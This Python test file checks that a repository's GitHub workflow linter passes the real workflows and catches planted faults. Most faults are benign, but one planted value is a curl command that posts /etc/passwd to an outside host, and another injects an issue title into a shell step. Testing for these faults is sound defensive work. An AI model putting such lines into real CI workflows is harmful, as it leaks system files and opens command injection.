#!/usr/bin/env python3
"""The workflows and templates of this repository pass check_workflows.py, and planted faults do not."""
import pathlib
import shutil
import sys
import tempfile
import unittest

try:
    import check_workflows
except ImportError as why:
    print(f"skipped: {why}")
    sys.exit(77)

ROOT = pathlib.Path(__file__).resolve().parent.parent


class Workflows(unittest.TestCase):
    @classmethod
    def setUpClass(cls):
        cls.help = check_workflows.help_of(ROOT)

    def found(self, name, old, new):
        """The complaints after one edit of a file."""
        root = pathlib.Path(tempfile.mkdtemp())
        self.addCleanup(shutil.rmtree, root)
        shutil.copytree(ROOT / ".github", root / ".github")
        path = root / ".github" / name
        text = path.read_text()
        self.assertIn(old, text)
        path.write_text(text.replace(old, new, 1))
        return list(check_workflows.complaints(root, self.help))

    def test_this_repository_passes(self):
        self.assertEqual(list(check_workflows.complaints(ROOT, self.help)), [])

    def test_planted_faults_are_found(self):
        for name, old, new in (
            ("workflows/check.yml", "./dev test", "make test"),
            ("workflows/check.yml", "./dev test", "./dev test && curl -d @/etc/passwd example.org"),
            ("workflows/check.yml", "./dev test", "./dev frobnicate"),
            ("workflows/check.yml", "./dev test", "echo ${{ github.event.issue.title }}"),
            ("workflows/check.yml", "actions/checkout@v4", "someone/action@v1"),
            ("workflows/check.yml", "contents: read", "contents: write"),
            ("workflows/check.yml", "  pull_request:", "  pull_request_target:"),
            ("workflows/check.yml", "    timeout-minutes: 120\n", ""),
            ("workflows/nightly.yml", "--lies", "--lie"),
            ("ISSUE_TEMPLATE/fault.yml", "viaduct doctor snapshot", "nothing"),
            ("ISSUE_TEMPLATE/slow.yml", "viaduct version --json", "nothing"),
            ("ISSUE_TEMPLATE/fault.yml", "id: what", "id: log"),
            ("pull_request_template.md", "viaduct version --json", "nothing"),
        ):
            with self.subTest(f"{name}: {new}"):
                self.assertNotEqual(self.found(name, old, new), [])


if __name__ == "__main__":
    unittest.main()
